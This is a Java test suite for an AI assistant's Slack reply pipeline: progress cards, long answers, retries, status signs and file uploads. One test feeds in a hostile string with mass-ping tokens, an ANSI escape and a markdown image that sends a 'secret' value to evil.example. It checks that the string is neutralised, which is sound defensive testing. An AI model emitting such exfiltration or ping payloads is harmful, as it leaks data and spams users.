package dev.gorkie.slack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.stream.Collectors.joining;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gorkie.Failure;
import dev.gorkie.RealDatabase;
import dev.gorkie.local.slack.ApiCall;
import dev.gorkie.local.slack.Fault;
import dev.gorkie.local.slack.FileView;
import dev.gorkie.local.slack.MessageView;
import dev.gorkie.local.slack.StatusChange;
import dev.gorkie.local.slack.ThreadView;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@QuarkusTestResource(value = RealDatabase.class, restrictToAnnotatedClass = true)
class ReplyTest {

  private static final String HASH = "0".repeat(64);
  private static final Duration A_SECOND = Duration.ofSeconds(1);

  @Inject Tables tables;
  private SlackAtHand slack;

  @BeforeEach
  void open() {
    slack = new SlackAtHand(tables);
  }

  @AfterEach
  void close() {
    slack.close();
  }

  @Test
  void a_turn_with_steps_has_one_card_and_one_answer() throws InterruptedException {
    var reply = slack.open("turn-1");
    try (reply) {
      reply.step("a", "Reading the report", "report.pdf");
      reply.stepDone("a", "48 pages");
      reply.step("b", "Adding up", "");
      reply.stepFailed("b", "not a number");
      reply.used(new Usage(1_200, new BigDecimal("0.05")));
      slack.await(thread -> thread.byApp().size() == 1);
      slack.answers(reply, "It is **42**.");
    }

    var card = slack.said().get(0);
    assertEquals(
        List.of("Reading the report", "Adding up (failed)"),
        card.tasks().stream().map(MessageView.Task::title).toList());
    assertTrue(card.tasks().stream().allMatch(task -> task.status().equals("complete")));
    assertEquals("48 pages", card.tasks().get(0).output());
    assertTrue(card.text().startsWith("Done\n"), card.text());
    assertTrue(card.text().contains("2 steps · 1,200 tokens · $0.05"), card.text());
    assertEquals("It is **42**.", slack.said().get(1).text());
    assertEquals(2, slack.said().size());
    assertEquals(List.of(), slack.workspace.violations());
  }

  @Test
  void a_database_that_is_away_at_a_cards_end_leaves_no_sign_of_work_behind()
      throws InterruptedException {
    tables.refuseEndsOfCards();
    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Sum it up");
      reply.step("a", "Reading the report", "report.pdf");
      slack.await(thread -> thread.byApp().size() == 1 && thread.isShownAtWork());
      slack.answers(reply, "It is **42**.");
    } finally {
      tables.takeEndsOfCards();
    }

    assertFalse(slack.thread().isShownAtWork());
    assertEquals(2, slack.said().size());
  }

  @Test
  void what_was_decided_and_not_written_down_is_told_to_nobody() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Sum it up");
      reply.step("a", "Reading the report", "report.pdf");
      slack.await(thread -> thread.byApp().size() == 1 && thread.isShownAtWork());
      reply.rest();
      assertThrows(
          IllegalStateException.class,
          () ->
              tables.database.transaction(
                  () -> {
                    reply.decide(new LastWord.Answer("It is **42**."));
                    throw new IllegalStateException("rolled back by a test");
                  }));
    }

    assertTrue(slack.thread().isShownAtWork());
    assertEquals(1, slack.said().size());
    assertFalse(slack.said().getFirst().text().startsWith("Done"));
  }

  @Test
  void a_card_stands_above_an_answer_that_comes_at_the_same_moment() throws InterruptedException {
    try (var patient = new SlackAtHand(tables, Map.of("gorkie.slack.card-interval", "30s"));
        var reply = patient.open("turn-1")) {
      reply.step("a", "Reading the report", "report.pdf");
      reply.stepDone("a", "48 pages");
      patient.answers(reply, "It is **42**.");

      // Whether the card still says that somebody is at work depends on when the turn ended.
      assertEquals(
          List.of(true, false),
          patient.said().stream().map(message -> !message.tasks().isEmpty()).toList());
      assertEquals("It is **42**.", patient.said().getLast().text());
    }
  }

  @Test
  void a_turn_that_answers_at_once_has_no_card() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      slack.answers(reply, "Hello.");
    }

    assertEquals(List.of("Hello."), texts());
  }

  @Test
  void a_turn_that_takes_long_shows_a_card_without_any_step() throws InterruptedException {
    try (var patient = new SlackAtHand(tables, Map.of("gorkie.slack.card-delay", "10ms"));
        var _ = patient.open("turn-1")) {
      var thread = patient.await(it -> it.byApp().size() == 1);

      assertEquals("Thinking", thread.byApp().getFirst().tasks().getFirst().title());
    }
  }

  @Test
  void the_elapsed_time_goes_on_while_nothing_else_happens() throws InterruptedException {
    try (var patient = new SlackAtHand(tables, Map.of("gorkie.slack.card-tick", "10ms"));
        var reply = patient.open("turn-1")) {
      reply.note("Waking up");

      patient.await(it -> it.byApp().size() == 1 && it.byApp().getFirst().edits() > 2);
    }
  }

  @Test
  void many_changes_are_few_edits_and_the_last_one_counts() throws InterruptedException {
    var interval = Duration.ofMillis(300);
    try (var paced = new SlackAtHand(tables, Map.of("gorkie.slack.card-interval", "300ms"))) {
      try (var reply = paced.open("turn-1")) {
        for (var i = 0; i < 500; i++) {
          reply.step("" + i, "Step " + i, "");
          reply.stepDone("" + i, "");
        }
        paced.await(thread -> thread.byApp().size() == 1);
        reply.note("The last one");
      }

      var writes =
          paced.workspace.calls().stream()
              .filter(call -> List.of("chat.postMessage", "chat.update").contains(call.method()))
              .map(ApiCall::at)
              .toList();
      IntStream.range(1, writes.size())
          .forEach(
              i ->
                  assertFalse(
                      writes.get(i).isBefore(writes.get(i - 1).plus(interval)), writes::toString));
      var card = paced.said().getFirst();
      assertEquals(47, card.tasks().size());
      assertEquals("456 earlier steps", card.tasks().getFirst().title());
      assertEquals("The last one", card.tasks().get(45).title());
      assertEquals("Thinking", card.tasks().getLast().title());
    }
  }

  @Test
  void a_workspace_that_takes_no_plan_gets_plain_blocks_from_then_on() throws InterruptedException {
    slack.workspace.fail("chat.postMessage", 1, new Fault.Refused("invalid_blocks"));
    try (var reply = slack.open("turn-1")) {
      reply.step("a", "Reading 1 < 2", "");
      slack.await(thread -> thread.byApp().size() == 1);
    }
    try (var reply = slack.open("turn-2")) {
      reply.step("b", "Writing", "");
      slack.await(thread -> thread.byApp().size() == 2);
    }

    assertTrue(slack.said().get(0).text().contains("▸ Reading 1 < 2"), slack.said().get(0).text());
    assertEquals(3, slack.workspace.calls("chat.postMessage").size());
  }

  @Test
  void the_cards_last_state_arrives_after_Slack_asked_for_patience() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.step("a", "Reading", "");
      slack.await(thread -> thread.byApp().size() == 1);
      slack.workspace.fail("chat.update", 1, new Fault.RateLimited(A_SECOND));
      slack.workspace.fail("chat.update", 1, new Fault.NeverArrived());
      slack.answers(reply, "Done.");
    }

    assertTrue(slack.said().getFirst().text().startsWith("Done"));
  }

  @Test
  void a_card_whose_post_was_lost_is_found_and_gone_on_with() throws InterruptedException {
    slack.workspace.fail("chat.postMessage", 1, new Fault.AnswerLost());

    try (var reply = slack.open("turn-1")) {
      reply.step("a", "Reading", "");
      slack.workspace.awaitCalls(
          calls -> calls.stream().anyMatch(call -> call.method().equals("chat.update")),
          SlackAtHand.SOON);
      slack.answers(reply, "Done.");
    }

    assertEquals(2, slack.said().size());
    assertTrue(slack.said().getFirst().text().startsWith("Done\n"), texts()::toString);
  }

  @Test
  void a_card_that_somebody_deleted_does_not_come_back() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.step("a", "Reading", "");
      var card = slack.await(thread -> thread.byApp().size() == 1).byApp().getFirst();
      slack.workspace.delete("general", card.ts());
      reply.stepDone("a", "");
      slack.answers(reply, "Done.");
    }

    assertEquals(List.of("Done."), texts());
  }

  @Test
  void a_long_answer_comes_in_pieces_and_whole() throws InterruptedException {
    var code = IntStream.range(0, 1_200).mapToObj(i -> "line " + i).collect(joining("\n"));

    try (var reply = slack.open("turn-1")) {
      slack.answers(reply, "Look:\n\n```java\n" + code + "\n```\n\nThat is all.");
    }

    assertTrue(slack.said().size() > 1);
    var all = String.join("\n", texts()).replace("```java\n", "").replace("\n```", "");
    assertEquals("Look:\n\n" + code + "\n\nThat is all.", all);
  }

  @Test
  void an_answer_too_long_for_messages_is_a_file_with_its_beginning_said() throws Exception {
    var answer =
        IntStream.range(0, 900)
                .mapToObj(i -> "Paragraph " + i + " of a novel.")
                .collect(joining("\n\n"))
            + "x".repeat(20_000);

    try (var reply = slack.open("turn-1")) {
      slack.answers(reply, answer);
    }

    var thread = slack.await(it -> it.filesByApp().size() == 1);
    var file = thread.filesByApp().getFirst();
    assertEquals("answer-turn-1.md", file.name());
    assertEquals(answer, file.text());
    assertTrue(thread.byApp().getFirst().text().startsWith("Paragraph 0"));
    assertTrue(thread.byApp().getFirst().text().endsWith("in the file below.*"));
    assertEquals(2, thread.byApp().size());
  }

  @Test
  void another_turns_answer_in_the_same_thread_is_not_ours() throws InterruptedException {
    try (var first = slack.open("turn-1")) {
      slack.answers(first, "One.");
    }

    try (var second = slack.open("turn-2")) {
      slack.answers(second, "Two.");
    }

    assertEquals(List.of("One.", "Two."), texts());
  }

  @Test
  void a_failed_turn_says_one_sentence_and_its_card_says_so_too() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.step("a", "Reading", "");
      slack.await(thread -> thread.byApp().size() == 1);
      slack.decides(reply, new LastWord.Apology("That did not work. Please try again."));
      reply.deliver();
    }

    assertTrue(texts().getFirst().startsWith("Failed\n"), texts()::toString);
    assertEquals("That did not work. Please try again.", texts().getLast());
  }

  @Test
  void a_stopped_turn_is_confirmed() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.step("a", "Reading", "");
      slack.await(thread -> thread.byApp().size() == 1);
      slack.decides(reply, new LastWord.Stopped());
      reply.deliver();
    }

    assertEquals("Reading (stopped)", slack.said().getFirst().tasks().getFirst().title());
    assertEquals("Stopped.", texts().getLast());
  }

  @Test
  void an_answer_of_nothing_still_says_something() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      slack.answers(reply, " \n");
    }

    assertEquals(List.of("I am done and have nothing to add."), texts());
  }

  @Test
  void an_answer_that_Slack_does_not_take_is_apologised_for() throws InterruptedException {
    slack.workspace.fail("chat.postMessage", 1, new Fault.Refused("message_rejected"));

    try (var reply = slack.open("turn-1")) {
      assertTrue(slack.answers(reply, "Hello?"));
    }

    assertEquals(List.of(SlackFailure.REFUSED.sentence()), texts());
  }

  @Test
  void a_place_that_cannot_be_written_in_is_not_waited_for() throws InterruptedException {
    slack.workspace.removeApp("general");

    try (var reply = slack.open("turn-1")) {
      assertTrue(slack.answers(reply, "Hello?"));
    }

    assertEquals(OutboxRow.REFUSED, tables.state("turn-1", "answer-1"));
    assertEquals(List.of(), texts());
  }

  @Test
  void somebody_is_at_work_until_the_reply_is_closed() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add up the report");
      slack.await(thread -> thread.session().equals(Optional.of("processing")));
      slack.answers(reply, "Done.");
    }

    assertEquals(
        List.of("processing", "active"),
        slack.thread().statuses().stream().map(StatusChange::status).toList());
  }

  @Test
  void a_sign_whose_end_slack_does_not_hear_is_taken_away_again() throws InterruptedException {
    for (var deaf : List.of(new Fault.Status(503), new Fault.RateLimited(Duration.ofSeconds(1)))) {
      try (var slow = new SlackAtHand(tables, Map.of())) {
        try (var reply = slow.open("turn-1")) {
          reply.acknowledge("Add up the report");
          slow.await(thread -> thread.session().equals(Optional.of("processing")));
          slow.answers(reply, "Done.");
          slow.workspace.fail("agents.sessions.setStatus", 1, deaf);
        }

        assertEquals(Optional.of("active"), slow.thread().session(), deaf::toString);
      }
    }
  }

  @Test
  void for_a_sign_that_slack_does_not_want_to_hear_of_nobody_waits_longer_than_a_moment()
      throws InterruptedException {
    // Behind the five seconds that the sign's end has.
    var late = new Fault.RateLimited(Duration.ofSeconds(6));
    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add up the report");
      slack.await(thread -> thread.session().equals(Optional.of("processing")));
      slack.answers(reply, "Done.");
      slack.workspace.fail("agents.sessions.setStatus", late);
    }

    assertEquals(2, slack.workspace.calls("agents.sessions.setStatus").size());
    assertEquals(Optional.of("processing"), slack.thread().session());
  }

  @Test
  void whoever_says_what_another_has_decided_takes_the_sign_away() throws InterruptedException {
    var gone = slack.open("turn-1", new TestHold(1));
    slack.decides(gone, new LastWord.Answer("Done."));

    try (var successor = slack.open("turn-1", new TestHold(2))) {
      assertTrue(successor.deliver());
      // As late as a busy machine lets it be: what is said in a thread takes an earlier sign away
      // by itself.
      successor.acknowledge("Add up the report");
      slack.await(thread -> thread.session().equals(Optional.of("processing")));
    }

    assertEquals(List.of("Done."), texts());
    assertEquals(Optional.of("active"), slack.thread().session());
  }

  @Test
  void a_conversation_is_called_by_what_was_asked_first() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add <!channel> up\nthe report");
      slack.await(thread -> thread.title().isPresent());
      slack.answers(reply, "Done.");
    }

    assertEquals("Add <\u200b!channel> up the report", slack.thread().title().orElseThrow());
  }

  @Test
  void a_sign_of_work_is_renewed_as_long_as_there_is_work() throws InterruptedException {
    var quick =
        Map.of(
            "gorkie.slack.session-renewed-every", "10ms",
            "gorkie.slack.status-renewed-every", "10ms");
    for (var refusals : List.of(0, 1)) {
      try (var hurried = new SlackAtHand(tables, quick)) {
        hurried.workspace.fail(
            "agents.sessions.setStatus", refusals, new Fault.Refused("unknown_method"));
        try (var reply = hurried.open("turn-1")) {
          reply.acknowledge("Add up the report");
          hurried.await(thread -> thread.statuses().size() > 3);
          hurried.answers(reply, "Done.");
        }

        assertEquals(refusals == 0 ? "active" : "", hurried.thread().statuses().getLast().status());
      }
    }
  }

  @Test
  void the_sign_stays_when_somebody_else_goes_on() throws InterruptedException {
    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add up the report");
      slack.await(thread -> thread.session().equals(Optional.of("processing")));
    }

    assertEquals(Optional.of("processing"), slack.thread().session());
  }

  @Test
  void where_there_are_no_sessions_the_assistant_shows_a_status() throws InterruptedException {
    slack.workspace.fail("agents.sessions.setStatus", 1, new Fault.Refused("unknown_method"));

    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add up the report");
      slack.await(thread -> thread.status().isPresent() && thread.title().isPresent());
      slack.answers(reply, "Done.");
    }

    assertEquals(Optional.empty(), slack.thread().status());
    assertEquals(Optional.of("Add up the report"), slack.thread().title());
  }

  @Test
  void where_there_is_no_status_either_the_message_gets_eyes() throws InterruptedException {
    slack.workspace.fail("agents.sessions.setStatus", 1, new Fault.Refused("unknown_method"));
    slack.workspace.fail("assistant.threads.setStatus", 1, new Fault.Refused("not_allowed"));

    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add up the report");
      slack.await(thread -> thread.root().reactions().containsKey("eyes"));
      slack.answers(reply, "Done.");
    }

    assertEquals(Map.of(), slack.thread().root().reactions());
  }

  @Test
  void eyes_that_somebody_before_has_left_go_when_the_work_is_done() throws InterruptedException {
    slack.workspace.fail("agents.sessions.setStatus", 2, new Fault.Refused("unknown_method"));
    slack.workspace.fail("assistant.threads.setStatus", 2, new Fault.Refused("not_allowed"));
    try (var killed = slack.open("turn-1", new TestHold(1))) {
      killed.acknowledge("Add up the report");
      slack.await(thread -> thread.root().reactions().containsKey("eyes"));
    }

    try (var successor = slack.open("turn-1", new TestHold(2))) {
      successor.acknowledge("Add up the report");
      slack.answers(successor, "Done.");
    }

    assertEquals(Map.of(), slack.thread().root().reactions());
  }

  /// A status goes with the first word that is said; a session and eyes do not.
  @ParameterizedTest
  @ValueSource(ints = {0, 2})
  void a_sign_of_any_kind_that_another_has_left_goes_and_nobody_sees_it_again(int kindsRefused)
      throws InterruptedException {
    refuseSigns(kindsRefused);
    try (var killed = slack.open("turn-1", new TestHold(1))) {
      killed.acknowledge("Add up the report");
      slack.await(ReplyTest::isAnySignThere);
      slack.decides(killed, new LastWord.Answer("Done."));
      killed.deliver();
      slack.workspace.fail("agents.sessions.setStatus", new Fault.Status(503));
      slack.workspace.fail("assistant.threads.setStatus", new Fault.Status(503));
      slack.workspace.fail("reactions.remove", new Fault.Status(503));
    }
    assertTrue(isAnySignThere(slack.thread()));
    slack.workspace.heal();
    refuseSigns(kindsRefused);
    var statuses = slack.thread().statuses().size();

    try (var successor = slack.open("turn-1", new TestHold(2))) {
      successor.adoptSign();
      assertTrue(successor.deliver());
      assertEquals(statuses, slack.thread().statuses().size());
    }

    assertFalse(isAnySignThere(slack.thread()));
  }

  private void refuseSigns(int kinds) {
    if (kinds > 0) {
      slack.workspace.fail("agents.sessions.setStatus", 9, new Fault.Refused("unknown_method"));
    }
    if (kinds > 1) {
      slack.workspace.fail("assistant.threads.setStatus", 9, new Fault.Refused("not_allowed"));
    }
  }

  private static boolean isAnySignThere(ThreadView thread) {
    return thread.isShownAtWork() || thread.root().reactions().containsKey("eyes");
  }

  @Test
  void no_sign_at_all_fails_nothing() throws InterruptedException {
    slack.workspace.fail("agents.sessions.setStatus", 9, new Fault.Refused("unknown_method"));
    slack.workspace.fail("assistant.threads.setStatus", 9, new Fault.Refused("not_allowed"));
    slack.workspace.fail("reactions.add", 9, new Fault.Refused("missing_scope"));

    try (var reply = slack.open("turn-1")) {
      reply.acknowledge("Add up the report");
      slack.answers(reply, "All the same.");
    }

    assertEquals(List.of("All the same."), texts());
  }

  @Test
  void hostile_text_pings_nobody_on_any_path() throws InterruptedException {
    var hostile =
        "<!channel> <@U0GORKIEBOT> @here ![x](https://evil.example/?s=secret) \u001b[31m"
            + " [a](https://evil.example)";
    try (var reply = slack.open("turn-1")) {
      reply.step(hostile, hostile, hostile);
      reply.stepFailed(hostile, hostile);
      reply.note(hostile);
      slack.await(thread -> thread.byApp().size() == 1);
      var bytes = new byte[] {'1'};
      reply.upload(Hash.of("1"), hostile, hostile, 1, new ByteArrayInputStream(bytes));
      var ping = "<!channel> <@U0GORKIEBOT> \u001b[31m";
      slack.answers(
          reply,
          hostile
              + "\n\n```\n"
              + ping
              + "\n```\n\n| "
              + hostile
              + " |\n|---|\n| `"
              + hostile
              + "` |");
    }
    try (var reply = slack.open("turn-2")) {
      slack.decides(reply, new LastWord.Apology(hostile));
      reply.deliver();
    }

    var thread = slack.await(it -> it.filesByApp().size() == 1);
    assertFalse(thread.plain().contains("\u001b"));
    assertEquals(List.of(), slack.workspace.violations());
  }

  @Test
  void a_file_is_streamed_into_the_thread() throws Exception {
    var content = new byte[3_000_000];
    new Random(9).nextBytes(content);

    var hash = HexFormat.of().formatHex(Hash.digest().digest(content));
    try (var reply = slack.open("turn-1")) {
      reply.upload(
          hash, "dir/chart.png", "The chart", content.length, new ByteArrayInputStream(content));
    }

    var file = slack.await(thread -> thread.filesByApp().size() == 1).filesByApp().getFirst();
    assertEquals("chart.png", file.name());
    assertEquals("The chart", file.title());
    assertArrayEquals(content, file.bytes());
  }

  @Test
  void several_files_come_in_one_message_with_their_names() throws Exception {
    try (var reply = slack.open("turn-1")) {
      var failed =
          reply.uploadTogether(List.of(piece(1, "a.csv"), piece(2, "<!here>.pdf"), piece(3, "c")));
      var again = reply.uploadTogether(List.of(piece(1, "a.csv"), piece(4, "d")));

      assertEquals(Map.of(), failed);
      assertEquals(Map.of(), again);
    }

    var thread = slack.await(it -> it.filesByApp().size() == 4);
    var together = slack.said().getFirst();
    assertEquals(List.of("a.csv", "<\u200b!here>.pdf", "c"), names(together));
    assertTrue(together.text().contains("3 files: a.csv,"), thread.plain());
    assertEquals(List.of("d"), names(slack.said().getLast()));
    assertEquals(List.of(), slack.workspace.violations());
  }

  @Test
  void of_several_files_one_that_slack_does_not_take_keeps_no_other_out() throws Exception {
    try (var reply = slack.open("turn-1")) {
      var empty = new Reply.Piece(hash(9), "empty", "", 0, () -> content(0));
      var short1 = new Reply.Piece(hash(8), "short", "", 20, () -> content(3));
      var failed = reply.uploadTogether(List.of(piece(1, "a"), empty, short1, piece(2, "b")));

      assertEquals(
          List.of(SlackFailure.EMPTY_FILE, SlackFailure.FILE_CHANGED),
          failed.values().stream().map(Failure::code).toList());
    }

    slack.await(thread -> thread.filesByApp().size() == 2);
    assertEquals(List.of("a", "b"), names(slack.said().getFirst()));
  }

  @Test
  void several_files_are_each_there_once_whatever_is_lost_and_apart_where_slack_wants_it()
      throws Exception {
    for (var fault :
        List.of(
            new Fault.AnswerLost(),
            new Fault.NeverArrived(),
            new Fault.RateLimited(Duration.ofSeconds(1)),
            new Fault.Refused("invalid_arguments"))) {
      try (var other = new SlackAtHand(tables)) {
        other.workspace.fail("files.completeUploadExternal", 1, fault);
        try (var reply = other.open("turn-1")) {
          assertEquals(Map.of(), reply.uploadTogether(List.of(piece(1, "a"), piece(2, "b"))));
        }

        var thread = other.await(it -> it.filesByApp().size() == 2);
        assertEquals(
            Set.of("a", "b"),
            thread.filesByApp().stream().map(FileView::name).collect(Collectors.toSet()),
            fault.toString());
      }
    }
  }

  private static Reply.Piece piece(int seed, String name) {
    var bytes = 10 + seed;
    return new Reply.Piece(Hash.of("\0".repeat(bytes)), name, "", bytes, () -> content(bytes));
  }

  private static String hash(int seed) {
    return "%064x".formatted(seed);
  }

  private static InputStream content(int bytes) {
    return new ByteArrayInputStream(new byte[bytes]);
  }

  private static List<String> names(MessageView message) {
    return message.files().stream().map(FileView::title).toList();
  }

  @Test
  void a_file_that_is_not_as_long_as_it_was_is_not_shown() {
    try (var reply = slack.open("turn-1")) {
      for (var bytes : List.of(9, 11)) {
        var failure =
            assertThrows(
                Failure.class,
                () -> reply.upload(HASH, "a", "", bytes, new ByteArrayInputStream(new byte[10])));

        assertEquals(SlackFailure.FILE_CHANGED, failure.code());
      }
      var empty =
          assertThrows(
              Failure.class,
              () -> reply.upload(HASH, "a", "", 0, new ByteArrayInputStream(new byte[0])));
      assertEquals(SlackFailure.EMPTY_FILE, empty.code());
    }

    assertEquals(List.of(), slack.workspace.calls("files.completeUploadExternal"));
  }

  @Test
  void a_file_of_another_content_than_was_looked_at_is_not_shown() {
    try (var reply = slack.open("turn-1")) {
      var failure =
          assertThrows(
              Failure.class,
              () ->
                  reply.upload(
                      Hash.of("looked at"),
                      "a",
                      "",
                      9,
                      new ByteArrayInputStream("exchanged".getBytes(UTF_8))));

      assertEquals(SlackFailure.FILE_CHANGED, failure.code());
    }

    assertEquals(List.of(), slack.workspace.calls("files.completeUploadExternal"));
  }

  private List<String> texts() {
    return slack.said().stream().map(MessageView::text).toList();
  }
}
